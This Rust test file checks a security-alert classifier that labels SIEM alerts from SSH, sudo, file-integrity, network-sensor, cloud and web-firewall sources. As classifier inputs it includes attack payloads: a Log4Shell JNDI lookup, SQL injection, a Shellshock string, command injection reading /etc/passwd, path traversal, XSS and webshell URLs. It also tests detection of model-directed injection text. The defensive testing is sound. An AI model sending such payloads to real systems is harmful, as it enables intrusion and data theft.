//! What an alert shows, kind by kind: one line of text per alert, from fixtures and from alerts written here.

use alert::{Alert, Limits};
use serde_json::{Value, json};

use super::*;

const SSHD: &str = include_str!("../../../../fixtures/alerts/sshd.json");
const SUDO: &str = include_str!("../../../../fixtures/alerts/sudo.json");
const SYSCHECK: &str = include_str!("../../../../fixtures/alerts/syscheck.json");
const WINDOWS: &str = include_str!("../../../../fixtures/alerts/windows.json");
const SURICATA: &str = include_str!("../../../../fixtures/alerts/suricata.json");
const WEB: &str = include_str!("../../../../fixtures/alerts/web.json");

fn seen(text: &str) -> Observation {
    observe(&Alert::parse(text.as_bytes(), &Limits::default()).expect("an alert"))
}

fn line(file: &str, number: usize) -> Observation {
    seen(file.lines().nth(number).expect("a line"))
}

/// Tells the main things in one line.
fn told(seen: &Observation) -> String {
    let mut text = format!(
        "{} by {} {} on [{}]",
        seen.class,
        seen.actor.kind(),
        seen.actor.name(),
        seen.objects.join(", ")
    );
    if seen.success != Success::None {
        text.push_str(&format!(", {:?}", seen.success));
    }
    if let Some(finding) = &seen.finding {
        text.push_str(&format!(", in {}", finding.parameter.as_deref().unwrap_or("the request")));
    }
    if seen.injection.is_some() {
        text.push_str(", talks to a model");
    }
    text
}

fn web(url: &str, status: u16, agent: &str) -> Value {
    json!({
        "rule": {"id": "31101", "level": 5, "description": "client error", "groups": ["web", "accesslog"]},
        "agent": {"id": "001", "name": "web01"},
        "full_log": format!("203.0.113.9 - - [24/Nov/2026:17:00:00 +0000] \"GET {url} HTTP/1.1\" {status} 512 \"-\" \"{agent}\""),
        "data": {"protocol": "GET", "srcip": "203.0.113.9", "id": status.to_string(), "url": url},
    })
}

#[test]
fn a_sensor_is_taken_at_its_word_where_the_signature_names_nothing() {
    let class = |signature: &str, category: &str| {
        let alert = json!({
            "rule": {"id": "86601", "level": 3, "description": format!("Network sensor: {signature}"), "groups": ["ids", "suricata"]},
            "agent": {"id": "009", "name": "sensor"},
            "data": {"src_ip": "203.0.113.80", "alert": {"signature": signature, "category": category}},
        });
        seen(&alert.to_string()).class
    };
    assert_eq!(class("odd beacon", "A Network Trojan was detected"), Class::Malware);
    assert_eq!(class("odd beacon", "Attempted Administrator Privilege Gain"), Class::Exploit);
    assert_eq!(class("odd beacon", "Attempted Information Leak"), Class::NetworkScan);
    assert_eq!(class("odd beacon", "Generic Protocol Command Decode"), Class::Other);
    assert_eq!(class("reverse shell over dns tunnel", "Misc activity"), Class::CommandExecution);
    assert_eq!(class("a DNS tunnel", "Misc activity"), Class::Exfiltration);
}

#[test]
fn a_sensor_is_read_before_the_answer_of_the_server() {
    let class = |groups: &[&str], text: &str, category: &str, url: &str| {
        let alert = json!({
            "rule": {"id": "86601", "level": 3, "description": text, "groups": groups},
            "agent": {"id": "009", "name": "sensor"},
            "data": {
                "src_ip": "203.0.113.80", "alert": {"category": category},
                "http": {"url": url, "http_method": "POST", "status": "404"},
            },
        });
        seen(&alert.to_string()).class
    };
    let sensor = &["ids", "suricata"];
    let misc = "Misc activity";
    assert_eq!(
        class(sensor, "Network sensor: SQL injection in a body", misc, "/a"),
        Class::SqlInjection
    );
    assert_eq!(class(sensor, "Network sensor: scan for backups", misc, "/a"), Class::Scanner);
    assert_eq!(class(sensor, "odd", "Web Application Attack", "/a"), Class::Exploit);
    // What leaks is said of any page that was asked for out of order; what was answered says more.
    assert_eq!(class(sensor, "odd", "Attempted Information Leak", "/a"), Class::WebError);
    assert_eq!(class(&["WAF", "Cloudflare"], "a wall saw a webshell", "", "/a"), Class::Webshell);
    // A log has no more of the request than was read, and what its author wrote into the path is no word of the rule.
    assert_eq!(class(&["web", "accesslog"], "XSS attempt", "", "/a"), Class::WebError);
    assert_eq!(
        class(&["waf"], "wall: /docs/xss-guide not found", "", "/docs/xss-guide"),
        Class::WebError
    );
}

#[test]
fn a_secret_that_is_scanned_for_is_no_scan_and_a_service_says_who_was_let_in() {
    let class = |description: &str, data: Value| {
        let alert = json!({
            "rule": {"id": "1", "level": 3, "description": description, "groups": ["a service"]},
            "agent": {"id": "000", "name": "manager"}, "data": data,
        });
        seen(&alert.to_string()).class
    };
    assert_eq!(class("Secret scanning report.", json!({})), Class::Other);
    assert_eq!(class("Sensor: ET SCAN of ports", json!({})), Class::NetworkScan);
    let operation = |name: &str| class("Events.", json!({"office365": {"Operation": name}}));
    assert_eq!(operation("UserLoginFailed"), Class::BruteForce);
    assert_eq!(operation("UserLoggedIn"), Class::Login);
    let started = json!({"docker": {"Action": "exec_start: /bin/bash"}});
    assert_eq!(class("A shell was started", started), Class::CommandExecution);
}

#[test]
fn a_virus_in_a_file_is_no_request_for_it() {
    let alert = json!({
        "rule": {"id": "52502", "level": 8, "description": "a virus", "groups": ["clamd", "virus"]},
        "agent": {"id": "001", "name": "mail"},
        "data": {"url": "/usr/local/bin/kworkerd", "extra_data": "Unix.Trojan.Agent-1"},
        "full_log": "/usr/local/bin/kworkerd: Unix.Trojan.Agent-1 FOUND",
    });
    let seen = seen(&alert.to_string());
    assert_eq!((seen.class, seen.variant.as_str()), (Class::Malware, "Unix.Trojan.Agent-1"));
}

#[test]
fn an_attack_in_the_name_of_a_user_is_one_whatever_reports_the_name() {
    let class = |name: &str| {
        let alert = json!({
            "rule": {"id": "5710", "level": 5, "description": "no such user", "groups": ["sshd", "invalid_login"]},
            "agent": {"id": "001", "name": "a"}, "data": {"srcip": "203.0.113.9", "srcuser": name},
            "full_log": format!("Invalid user {name} from 203.0.113.9"),
        });
        seen(&alert.to_string()).class
    };
    assert_eq!(class("${jndi:ldap://198.51.100.1/a}"), Class::Log4shell);
    assert_eq!(class("x' OR '1'='1"), Class::SqlInjection);
    for name in ["O'Brien", "j.doe (sales)", "pc-7$", "admin"] {
        assert_eq!(class(name), Class::BruteForce, "{name}");
    }
}

#[test]
fn who_owns_a_whole_account_in_a_cloud_need_not_log_in() {
    let seen_as = |kind: &str| {
        let alert = json!({
            "rule": {"id": "80253", "level": 3, "description": "a login", "groups": ["aws", "authentication_success"]},
            "agent": {"id": "000", "name": "manager"},
            "data": {"aws": {"eventName": "ConsoleLogin", "userIdentity": {"type": kind, "userName": "u"}}},
        });
        let seen = seen(&alert.to_string());
        (seen.class, seen.finding.is_some())
    };
    assert_eq!(seen_as("Root"), (Class::PrivilegeEscalation, true));
    assert_eq!(seen_as("IAMUser"), (Class::Login, false));
}

#[test]
fn the_name_of_a_script_that_is_not_there_is_one_wish_of_many() {
    let class = |url: &str, status| seen(&web(url, status, "curl").to_string()).class;
    for url in ["/uploads/2024/a1.php", "/bin/config", "/images/r57.php"] {
        assert_eq!(class(url, 404), Class::WebError, "{url}");
    }
    assert_eq!(class("/uploads/2024/a1.php", 200), Class::Webshell);
    assert_eq!(class("/uploads/a1.php?cmd=id", 404), Class::Webshell);
    assert_eq!(class("/x;cat%20/etc/passwd", 404), Class::CommandInjection);
    assert_eq!(class("/../../../../etc/passwd", 404), Class::PathTraversal);
}

#[test]
fn a_quote_that_the_client_sent_ends_no_field() {
    let bash = r#"() { :; }; /bin/bash -c \"id\""#;
    let seen_in = |agent: &str| seen(&web("/favicon.ico", 404, agent).to_string()).class;
    assert_eq!(seen_in(bash), Class::CommandInjection);
    assert_eq!(seen_in(r#"a \"quoted\" name"#), Class::WebError);
    assert_eq!(
        split_at_quotes_from_end(r#"a "b" "c\"d" "e\\""#).collect::<Vec<_>>(),
        ["", r"e\\", " ", r#"c\"d"#, " ", "b", "a "]
    );
}

#[test]
fn the_size_of_an_answer_is_read_from_lines_that_quote_the_request_alone() {
    let size = |line: &str| {
        let target = "/ping?h=%3Bcat%20/etc/passwd";
        let alert = json!({
            "rule": {"id": "31106", "level": 6, "description": "a web attack", "groups": ["web", "accesslog", "attack"]},
            "agent": {"id": "001", "name": "web01"},
            "full_log": line.replace("TARGET", target),
            "data": {"protocol": "GET", "id": "200", "url": target},
        });
        seen(&alert.to_string()).asked.map(|asked| asked.answer.size)
    };
    assert_eq!(
        size("192.0.2.1 - - [24/Nov/2026:17:00:00 +0000] \"GET TARGET HTTP/1.1\" 200 2943"),
        Some(2943)
    );
    assert_eq!(size("[24/Nov/2026 17:00:00] \"GET TARGET HTTP/1.1\" 200 2943"), Some(2943));
    // No size, a word more, and quotes of which one may be the client's.
    assert_eq!(size("[24/Nov/2026 17:00:00] \"GET TARGET HTTP/1.1\" 200 -"), Some(0));
    assert_eq!(size("[24/Nov/2026 17:00:00] \"GET TARGET HTTP/1.1\" 200 2943 1"), Some(0));
    assert_eq!(size("[24/Nov/2026 17:00:00] \"GET TARGET\" 200 9 HTTP/1.1\" 200 2943"), Some(0));
}

#[test]
fn words_are_read_where_they_begin() {
    let class = |text: &str, groups: &[&str]| {
        let alert = json!({
            "rule": {"id": "100001", "level": 3, "description": text, "groups": groups},
            "agent": {"id": "1", "name": "a"}, "data": {},
        });
        seen(&alert.to_string()).class
    };
    assert_eq!(class("a repository's secret scanning was enabled", &["github"]), Class::Other);
    assert_eq!(class("Antimalware scan paused", &["windows"]), Class::Other);
    assert_eq!(class("a drive was unmapped", &["windows"]), Class::Other);
    assert_eq!(class("Malware was found", &["windows"]), Class::Malware);
    assert_eq!(class("ET SCAN of ports", &["x"]), Class::NetworkScan);
    assert_eq!(class("potentially unwanted software was detected", &["windows"]), Class::Malware);
}

#[test]
fn a_note_that_wants_money_is_no_file_among_others() {
    let class = |path: &str, groups: Value| {
        let alert = json!({
            "rule": {"id": "554", "level": 5, "description": "a file", "groups": groups},
            "agent": {"id": "001", "name": "files"}, "syscheck": {"path": path, "event": "added"},
        });
        seen(&alert.to_string()).class
    };
    let added = json!(["syscheck", "syscheck_entry_added"]);
    for path in ["/srv/share/HOW_TO_RECOVER_FILES.txt", "C:\\docs\\!!!Decrypt my data.hta"] {
        assert_eq!(class(path, added.clone()), Class::Malware, "{path}");
    }
    for path in
        ["/usr/share/doc/recover.txt", "/srv/share/restore_plan.docx", "/srv/how_to_read.txt"]
    {
        assert_eq!(class(path, added.clone()), Class::FileIntegrity, "{path}");
    }
    let deleted = json!(["syscheck", "syscheck_entry_deleted"]);
    assert_eq!(class("/srv/share/HOW_TO_RECOVER_FILES.txt", deleted), Class::FileIntegrity);
}

#[test]
fn an_injection_behind_a_stock_rule_is_named_with_its_parameter() {
    assert_eq!(
        told(&line(WEB, 0)),
        "sql_injection by address 203.0.113.9 on [/item/], Answered, in id"
    );
}

#[test]
fn an_english_sentence_with_select_in_it_is_no_injection() {
    let seen = line(WEB, 1);
    assert_eq!(told(&seen), "web_attack by address 203.0.113.50 on [/search/]");
    assert_eq!(seen.finding, None);
}

#[test]
fn a_missing_page_is_an_error_of_the_web() {
    let seen = line(WEB, 2);
    assert_eq!(told(&seen), "web_error by address 203.0.113.9 on [/old/index.php]");
    assert_eq!(seen.status, Some(404));
}

#[test]
fn instructions_to_a_model_are_found_in_the_user_agent_and_behind_percent_signs() {
    assert_eq!(told(&line(WEB, 3)), "web_error by address 203.0.113.66 on [/], talks to a model");
    assert_eq!(told(&line(WEB, 4)), "web_error by address 203.0.113.67 on [/], talks to a model");
}

#[test]
fn a_failed_login_is_guessing_by_the_address_whatever_the_user() {
    let (first, second) = (line(SSHD, 0), line(SSHD, 1));
    assert_eq!(told(&first), "brute_force by address 198.51.100.23 on [admin]");
    assert_eq!((first.actor, first.behaviour), (second.actor, second.behaviour));
    assert!(first.others.is_empty(), "the guessed user took no part: {:?}", first.others);
}

#[test]
fn a_login_after_failures_says_that_it_worked() {
    assert_eq!(told(&line(SSHD, 7)), "brute_force by address 198.51.100.23 on [deploy], Confirmed");
    assert_eq!(told(&line(SSHD, 6)), "login by address 198.51.100.23 on [deploy]");
}

#[test]
fn sudo_is_an_act_of_the_user_who_ran_it() {
    let first = line(SUDO, 0);
    assert_eq!(
        told(&first),
        "privilege_escalation by user deploy on [/usr/bin/apt-get update, root]"
    );
    assert_ne!(
        first.behaviour,
        line(SUDO, 1).behaviour,
        "a command and a wrong password are two behaviours"
    );
}

#[test]
fn a_changed_file_is_known_by_its_path() {
    assert_eq!(told(&line(SYSCHECK, 0)), "file_integrity by host web01 on [/etc/passwd]");
}

#[test]
fn a_report_of_virustotal_is_malware() {
    assert_eq!(told(&line(SYSCHECK, 2)), "malware by host web01 on [/var/www/html/up/s.php]");
}

#[test]
fn a_failed_login_on_windows_names_the_address_and_not_the_machine_account() {
    assert_eq!(told(&line(WINDOWS, 0)), "brute_force by address 10.0.0.66 on [jsmith]");
    assert_eq!(line(WINDOWS, 2).class, Class::DefenseEvasion);
}

#[test]
fn a_signature_of_a_network_sensor_is_read_by_its_words() {
    assert_eq!(told(&line(SURICATA, 0)), "log4shell by address 203.0.113.80 on [10.0.0.21]");
    assert_eq!(told(&line(SURICATA, 1)), "network_scan by address 203.0.113.80 on [10.0.0.21]");
}

#[test]
fn without_address_and_user_the_machine_itself_is_the_actor() {
    let seen = seen(
        r#"{"rule":{"id":"502","level":3,"description":"started"},"agent":{"id":"000","name":"manager"}}"#,
    );
    assert_eq!(told(&seen), "other by host manager on []");
}

#[test]
fn hidden_and_acting_characters_are_counted_and_the_text_still_matches() {
    let seen = seen(
        &web("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, "a\u{202e}b\u{200b}\u{1b}[2J")
            .to_string(),
    );
    assert!(seen.hidden.is_suspicious(), "{:?}", seen.hidden);
    assert_eq!(told(&seen), "xss by address 203.0.113.9 on [/], Answered, in q");
}

#[test]
fn a_server_error_on_an_attack_is_a_reaction_and_a_refusal_says_nothing() {
    let attack = "/?id=1%27%20UNION%20SELECT%20name,pw%20FROM%20users--%20-";
    assert_eq!(seen(&web(attack, 500, "x").to_string()).success, Success::Reaction);
    assert_eq!(seen(&web(attack, 403, "x").to_string()).success, Success::None);
}

#[test]
fn requests_of_one_shape_share_it_and_others_do_not() {
    let shape = |url: &str| seen(&web(url, 404, "x").to_string()).shape;
    assert_eq!(shape("/item/17"), shape("/item/4711"));
    assert_ne!(shape("/item/17"), shape("/login?next=x"));
}

#[test]
fn texts_are_bounded_whatever_comes() {
    let seen =
        seen(&web(&format!("/{}", "a%27".repeat(20_000)), 200, &"x".repeat(50_000)).to_string());
    assert!(seen.excerpt.as_raw().len() <= EXCERPT_BYTES_MAX);
    assert!(seen.decoded.as_ref().is_none_or(|text| text.as_raw().len() <= EXCERPT_BYTES_MAX));
    assert!(seen.objects.iter().all(|object| object.chars().count() <= 161), "{:?}", seen.objects);
}

#[test]
fn a_refused_login_is_a_guess_whatever_program_tries_it() {
    let class = |url: &str, status: u16| seen(&web(url, status, "gobuster/3.6").to_string()).class;
    assert_eq!(class("/account/login", 401), Class::BruteForce);
    assert_eq!(class("/account/login", 404), Class::Scanner);
    assert_eq!(
        class("/img/a.png?next=login", 401),
        Class::Scanner,
        "only the path says what it is"
    );
    assert_eq!(class("/authors/", 401), Class::Scanner, "a word within another says nothing");
    assert_eq!(class("/login?u=1%27%20OR%20SLEEP(5)--%20-", 401), Class::SqlInjection);
}

#[test]
fn a_refused_login_hides_no_attack_that_a_rule_or_a_sensor_knows() {
    let class = |data: Value, groups: &[&str], text: &str| {
        let alert = json!({
            "rule": {"id": "86601", "level": 3, "description": text, "groups": groups},
            "agent": {"id": "1", "name": "a"}, "data": data,
        });
        seen(&alert.to_string()).class
    };
    let http = |url: &str, method: &str| json!({"srcip": "192.0.2.1", "http": {"url": url, "http_method": method, "status": "401"}});
    let sensor = &["ids", "suricata"];
    assert_eq!(class(http("/login", "POST"), sensor, "ET EXPLOIT Apache log4j"), Class::Log4shell);
    assert_eq!(class(http("/login", "GET"), sensor, "a web shell was used"), Class::Webshell);
    assert_eq!(class(http("/login", "GET"), &["web"], "a page was refused"), Class::BruteForce);
    // Every field that a request may be in is read.
    let edge =
        json!({"ClientIP": "192.0.2.1", "ClientRequestURI": "/login", "EdgeResponseStatus": "401"});
    assert_eq!(class(edge, &["web"], "a page was refused"), Class::BruteForce);
    // A client that negotiates is refused first, wherever it asks.
    assert_eq!(class(http("/ews/mail.asmx", "POST"), &["web"], "refused"), Class::WebError);
}

#[test]
fn operations_and_findings_that_matter_are_told_from_those_of_every_day() {
    let of = |data: Value, groups: &[&str], text: &str| {
        let alert = json!({
            "rule": {"id": "80202", "level": 3, "description": "a service reports", "groups": groups},
            "agent": {"id": "000", "name": "manager"}, "data": data, "full_log": text,
        });
        seen(&alert.to_string()).class
    };
    let aws = |name: &str| of(json!({"aws": {"eventName": name}}), &["amazon"], "");
    assert_eq!(aws("StopLogging"), Class::DefenseEvasion);
    assert_eq!(aws("CreateAccessKey"), Class::AccountChange);
    assert_eq!(aws("PutBucketPolicy"), Class::Exfiltration);
    assert_eq!(aws("DescribeInstances"), Class::Other);
    let cluster = |verb: &str, resource: &str, part: &str, code: &str| {
        let object = json!({"resource": resource, "subresource": part, "name": "db-0"});
        let event = json!({"kind": "Event", "verb": verb, "objectRef": object, "responseStatus": {"code": code}});
        of(event, &["k8s_audit"], "")
    };
    assert_eq!(cluster("create", "pods", "exec", "101"), Class::CommandExecution);
    assert_eq!(cluster("create", "clusterrolebindings", "", "201"), Class::AccountChange);
    for (verb, resource, part, code) in [
        ("create", "pods", "", "201"),
        ("get", "pods", "log", "200"),
        ("list", "clusterrolebindings", "", "200"),
        ("create", "pods", "exec", "403"),
    ] {
        assert_eq!(cluster(verb, resource, part, code), Class::Other, "{verb} {resource} {part}");
    }
    let rootcheck = |text: &str| of(json!({"title": text}), &["ossec", "rootcheck"], text);
    assert_eq!(rootcheck("Trojaned version of a file"), Class::Malware);
    assert_eq!(rootcheck("A file is writable by anybody"), Class::PolicyViolation);
}

#[test]
fn who_signs_in_at_a_service_for_identities_is_known_however_its_events_are_wrapped() {
    let of = |event: Value| {
        let alert = json!({
            "rule": {"id": "100050", "level": 4, "description": "a service reports", "groups": ["okta"]},
            "agent": {"id": "000", "name": "manager"}, "data": event,
        });
        seen(&alert.to_string())
    };
    let event = |result: &str| {
        json!({
            "eventType": "user.account.privilege.grant", "outcome": {"result": result},
            "actor": {"alternateId": "mia@corp.example"}, "client": {"ipAddress": "203.0.113.9"},
        })
    };
    for data in [event("SUCCESS"), json!({"okta": event("SUCCESS")})] {
        let seen = of(data);
        assert_eq!(seen.actor, Actor::Address("203.0.113.9".to_owned()));
        assert_eq!(seen.others, ["mia@corp.example"]);
        assert_eq!((seen.class, seen.finding.is_some()), (Class::AccountChange, true));
    }
    assert_eq!(of(json!({"okta": event("FAILURE")})).finding, None, "what was refused is not done");
}

#[test]
fn the_request_in_a_web_firewalls_own_log_is_read() {
    let of = |uri: &str, status: u16| {
        let alert = json!({
            "rule": {"id": "100070", "level": 7, "description": "a web firewall reports", "groups": ["modsecurity"]},
            "agent": {"id": "013", "name": "waf"},
            "data": {"transaction": {
                "client_ip": "203.0.113.9", "request": {"method": "GET", "uri": uri},
                "response": {"http_code": status},
            }},
        });
        seen(&alert.to_string())
    };
    let passed = of("/api?h=;cat+/etc/passwd", 200);
    assert_eq!((passed.class, passed.status), (Class::CommandInjection, Some(200)));
    assert_eq!(passed.actor, Actor::Address("203.0.113.9".to_owned()));
    assert_eq!(of("/api?q=%7B%7B7*7%7D%7D", 403).class, Class::Ssti);
    assert_ne!(of("/api?h=web01", 403).class, Class::CommandInjection);
}

#[test]
fn a_file_that_lets_people_in_is_no_file_like_the_others() {
    let behaviour = |path: &str| {
        let alert = json!({
            "rule": {"id": "550", "level": 7, "description": "a file changed", "groups": ["syscheck"]},
            "agent": {"id": "1", "name": "a"}, "syscheck": {"path": path},
        });
        seen(&alert.to_string()).behaviour
    };
    assert_eq!(behaviour("/usr/lib/a.so"), behaviour("/usr/lib/b.so"));
    assert_eq!(behaviour("/etc/passwd"), behaviour("/etc/shadow"));
    let kinds = [
        "/usr/lib/a.so",
        "/etc/passwd",
        "/srv/git/.ssh/authorized_keys",
        "/etc/cron.d/a",
        "/var/www/html/a.php",
    ];
    let mut told: Vec<String> = kinds.iter().map(|path| behaviour(path)).collect();
    told.sort();
    told.dedup();
    assert_eq!(told.len(), kinds.len(), "{told:?}");
}

#[test]
fn all_flaws_of_a_machine_are_one_thing_by_how_bad_they_are() {
    let key = |rule: &str, package: &str| {
        let alert = json!({
            "rule": {"id": rule, "level": 10, "description": format!("CVE-2026-1 affects {package}"), "groups": ["vulnerability-detector"]},
            "agent": {"id": "1", "name": "a"}, "data": {"vulnerability": {"package": {"name": package}}},
        });
        let seen = seen(&alert.to_string());
        (seen.behaviour, seen.variant)
    };
    assert_eq!(key("23505", "curl"), key("23505", "vim"));
    assert_ne!(key("23505", "curl"), key("23506", "curl"));
}

/// An alert of the rule that counts what is sent to a login form, on the last of the requests.
fn guessed(rule: &str, groups: &[&str], status: u16, agent: &str, url: &str) -> Observation {
    let mut alert = web(url, status, agent);
    alert["rule"] = json!({"id": rule, "level": 10, "description": "Brute force: a form was sent many times.", "groups": groups});
    seen(&alert.to_string())
}

#[test]
fn a_rule_that_counted_tries_to_log_in_says_more_than_the_path_of_the_form() {
    let tries = ["web", "web_attack", "brute_force", "authentication_failures"];
    let success = ["web", "web_attack", "brute_force", "authentication_success"];
    let form = "/wp-login.php";
    let refused = guessed("116805", &tries, 200, "x", form);
    assert_eq!(told(&refused), "brute_force by address 203.0.113.9 on [/wp-login.php]");
    let led_on = guessed("116810", &success, 302, "x", form);
    assert_eq!(told(&led_on), "brute_force by address 203.0.113.9 on [/wp-login.php], Confirmed");
    assert_eq!((refused.actor, refused.behaviour), (led_on.actor, led_on.behaviour));
    // The program that sends them says less as well, and an attack in the form more.
    assert_eq!(guessed("116805", &tries, 200, "gobuster/3.6", form).class, Class::BruteForce);
    let attack = "/wp-login.php?a=1%27%20UNION%20SELECT%20name,pw%20FROM%20users--%20-";
    assert_eq!(guessed("116805", &tries, 200, "x", attack).class, Class::SqlInjection);
    assert_eq!(guessed("1", &["web"], 200, "x", form).class, Class::ForcedBrowsing);
}

#[test]
fn a_statement_that_is_let_in_as_a_name_has_worked() {
    let login = |rule: &str, groups: &[&str], name: &str| {
        let alert = json!({
            "rule": {"id": rule, "level": 3, "description": "shop: a login", "groups": groups},
            "agent": {"id": "1", "name": "a"}, "decoder": {"name": "json"},
            "data": {"app": "shop", "srcip": "203.0.113.9", "dstuser": name, "path": "/login/", "status": "302"},
        });
        let seen = seen(&alert.to_string());
        (seen.class, seen.success)
    };
    let let_in = ["quell_web", "authentication_success"];
    let statement = "alice' AND 1965=1965 AND 'aOdx'='aOdx";
    assert_eq!(login("116162", &let_in, statement), (Class::SqlInjection, Success::Confirmed));
    let refused = ["quell_web", "authentication_failed"];
    assert_eq!(login("116161", &refused, statement), (Class::SqlInjection, Success::None));
    assert_eq!(login("116162", &let_in, "O'Brien"), (Class::Login, Success::None));
    let own = ["web_attack", "sql_injection", "authentication_success"];
    assert_eq!(login("116167", &own, "admin'#"), (Class::SqlInjection, Success::Confirmed));
}
